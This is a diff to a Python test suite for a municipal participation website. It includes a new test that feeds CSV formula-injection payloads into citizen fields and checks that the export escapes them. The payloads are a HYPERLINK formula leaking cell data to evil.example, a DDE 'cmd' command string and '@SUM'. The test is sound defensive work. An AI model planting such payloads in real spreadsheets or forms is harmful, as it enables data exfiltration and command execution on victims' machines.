@@ -119,9 +119,10 @@ def test_only_an_open_consultation_page_loads_the_script_late(sample_site):
     assert sample_site.path(script["src"]).is_file()
     for url in ("/inspraak/", f"{BASE}idee-4/", "/2026/online-burgerbevraging/"):
         assert not sample_site.html(url).select('script[src*="/theme/js/participation."]'), url
-    css = doc.select_one('link[href*="/theme/css/components/participation."]')
-    assert css and sample_site.path(css["href"]).is_file()
-    assert not sample_site.html("/").select('link[href*="participation."]')
+    # Its styles are in main.css (the board page keeps to the article budget).
+    sheets = [link["href"] for link in doc.select('link[rel="stylesheet"]')]
+    assert sheets == [link["href"] for link in
+                      sample_site.html("/").select('link[rel="stylesheet"]')]
 
 
 def test_every_approved_idea_has_a_page_with_share_links_and_preview(sample_site):
@@ -193,7 +194,7 @@ def test_participation_json_has_the_contract_shape_and_a_shell(sample_site):
     assert main.decode_contents().strip() == "<!--participation:main-->"
     assert shell.count("<!--participation:main-->") == 1
     sheets = [link["href"] for link in doc.select('link[rel="stylesheet"]')]
-    assert len(sheets) >= 3
+    assert len(sheets) == 2  # the design tokens and main.css
     assert all(href.startswith("http://127.0.0.1:8000/theme/css/") for href in sheets)
     for href in sheets:
         assert sample_site.path(href.removeprefix("http://127.0.0.1:8000")).is_file()
@@ -492,6 +493,8 @@ def test_without_the_service_the_script_says_so_and_keeps_the_links(browser, ser
     page = context.new_page()
     try:
         page.goto(served_site + BASE, wait_until="networkidle")
+        # The script asks for the current board when the reader nears it.
+        page.locator("[data-participation-board]").scroll_into_view_if_needed()
         page.wait_for_function("document.querySelector('[data-board-status]').textContent")
         assert page.locator("[data-board-status]").inner_text().startswith(
             "Het actuele overzicht kon niet worden geladen")
@@ -507,3 +510,26 @@ def test_without_the_service_the_script_says_so_and_keeps_the_links(browser, ser
         assert page.locator("#idee-2 a.participation-idea__report").count() == 1
     finally:
         context.close()
+
+
+def test_no_csv_cell_starts_a_formula(tmp_path, build_site):
+    """A citizen's title like "=HYPERLINK(...)" stays text in a spreadsheet;
+    the JSON and the pages keep it as written."""
+    data = tmp_path / "data"
+    data.mkdir()
+    hostile = json.loads(json.dumps(FIXTURE))
+    hostile["ideas"][0]["title"] = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
+    hostile["ideas"][1]["name"] = "+cmd|' /C calc'!A0"
+    hostile["ideas"][2]["place"] = "@SUM(1+1)"
+    hostile["ideas"][3]["text"] = "-2+3 bomen"
+    (data / f"{SLUG}.json").write_text(json.dumps(hostile), encoding="utf-8")
+    site = build_site(PARTICIPATION_DATA=str(data), PARTICIPATION_NOW=AFTER_CLOSE,
+                      CACHE_PATH=str(tmp_path / "cache"))
+    raw = site.path(f"{BASE}resultaten.csv").read_text(encoding="utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in raw and "'@SUM(1+1)" in raw and "'-2+3 bomen" in raw
+    opened = json.loads(site.path(f"{BASE}resultaten.json").read_text(encoding="utf-8"))
+    assert opened["ideas"][0]["title"].startswith("=HYPERLINK(")
+    assert sum(int(row["supports"]) for row in csv.DictReader(io.StringIO(raw))) == \
+        FIXTURE["total_supports"]
